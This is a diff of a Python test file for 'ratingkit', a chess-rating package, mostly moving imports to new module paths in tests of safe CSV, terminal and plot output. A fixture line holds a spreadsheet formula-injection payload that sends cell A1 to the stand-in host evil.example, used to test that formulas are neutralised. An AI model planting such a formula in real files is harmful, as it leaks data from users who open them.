@@ -24,22 +24,22 @@ matplotlib.use("Agg")  # tests only
 import matplotlib.pyplot as plt
 
 from ratingkit import cli
-from ratingkit.errors import RatingkitError
-from ratingkit.formats import read_event, write_event
-from ratingkit.output import (
+from ratingkit.core.errors import RatingkitError
+from ratingkit.core.output import (
     check_output,
     protect_cell,
     terminal_text,
     unprotect_cell,
     write_output,
 )
-from ratingkit.playerfile import (
+from ratingkit.core.players import (
     PlayerFile,
     PlayerRecord,
     parse_player_csv,
     write_player_csv,
 )
-from ratingkit.report import Report, Table
+from ratingkit.core.report import Report, Table
+from ratingkit.formats import read_event, write_event
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 ESC_NAME = "\x1b[31mRed\x1b[0m Rider\x07"
@@ -344,8 +344,8 @@ def _drawn(text) -> tuple[str, bool]:
 
 
 def test_rating_history_draws_a_name_with_dollars_as_text(tmp_path):
-    from ratingkit.ledger import Ledger
-    from ratingkit.plots.ledger import plot_rating_history
+    from ratingkit.notebook.plots.ledger import plot_rating_history
+    from ratingkit.services.ledger import Ledger
 
     pair = _pair(tmp_path / "pair", DOLLAR_NAME)
     (pair / "event.csv").write_text("field,value\nname,Cup\nstart,2024-01-05\n", encoding="utf-8")
@@ -360,8 +360,8 @@ def test_rating_history_draws_a_name_with_dollars_as_text(tmp_path):
 
 
 def test_the_8_54_plot_draws_a_name_with_dollars_as_text(tmp_path):
-    from ratingkit.plots.fide2014 import plot_cap
-    from ratingkit.rulesets import get_rule_set
+    from ratingkit.core.ruleset import get_rule_set
+    from ratingkit.notebook.plots.fide2014 import plot_cap
 
     event = read_event(_pair(tmp_path / "pair", DOLLAR_NAME))
     report = get_rule_set("fide-2014").rate(event)
@@ -373,8 +373,8 @@ def test_the_8_54_plot_draws_a_name_with_dollars_as_text(tmp_path):
 
 
 def test_the_comparison_plot_draws_ids_and_titles_with_dollars_as_text(tmp_path):
-    from ratingkit.compare import compare
-    from ratingkit.plots.compare import plot_change_vs_surprise
+    from ratingkit.notebook.plots.compare import plot_change_vs_surprise
+    from ratingkit.services.compare import compare
 
     folder = _pair(tmp_path / "pair")
     (folder / "players.csv").write_text(
@@ -410,7 +410,7 @@ def test_db_list_and_history_csv_protect_a_formula_name(tmp_path, capsys):
 
 
 def test_names_are_escaped_for_latex_when_the_user_draws_with_usetex():
-    from ratingkit.plots._text import literal
+    from ratingkit.notebook.plots._text import literal
 
     assert literal(DOLLAR_NAME) == r"Smith \$\frac{1}{\$ Jr"
     with matplotlib.rc_context({"text.usetex": True}):
@@ -429,7 +429,7 @@ def test_an_existing_file_that_may_not_be_written_is_refused_and_kept(tmp_path, 
 
 
 def test_a_writable_file_in_a_folder_that_is_not_is_written_in_place(tmp_path, monkeypatch):
-    import ratingkit.output as output
+    import ratingkit.core.output as output
 
     out = tmp_path / "report.txt"
     out.write_text("old\n", encoding="utf-8")
@@ -452,7 +452,7 @@ def test_a_dangling_symlink_into_a_missing_folder_names_that_folder(tmp_path):
 
 
 def test_a_formula_like_column_name_is_protected_and_reads_back():
-    from ratingkit.fileio import read_csv_table
+    from ratingkit.formats.fileio import read_csv_table
 
     text = Table("t", ("id", "=note"), ({"id": "a", "=note": "-x"},)).to_csv()
     assert text.splitlines() == ["id,'=note", "a,'-x"]
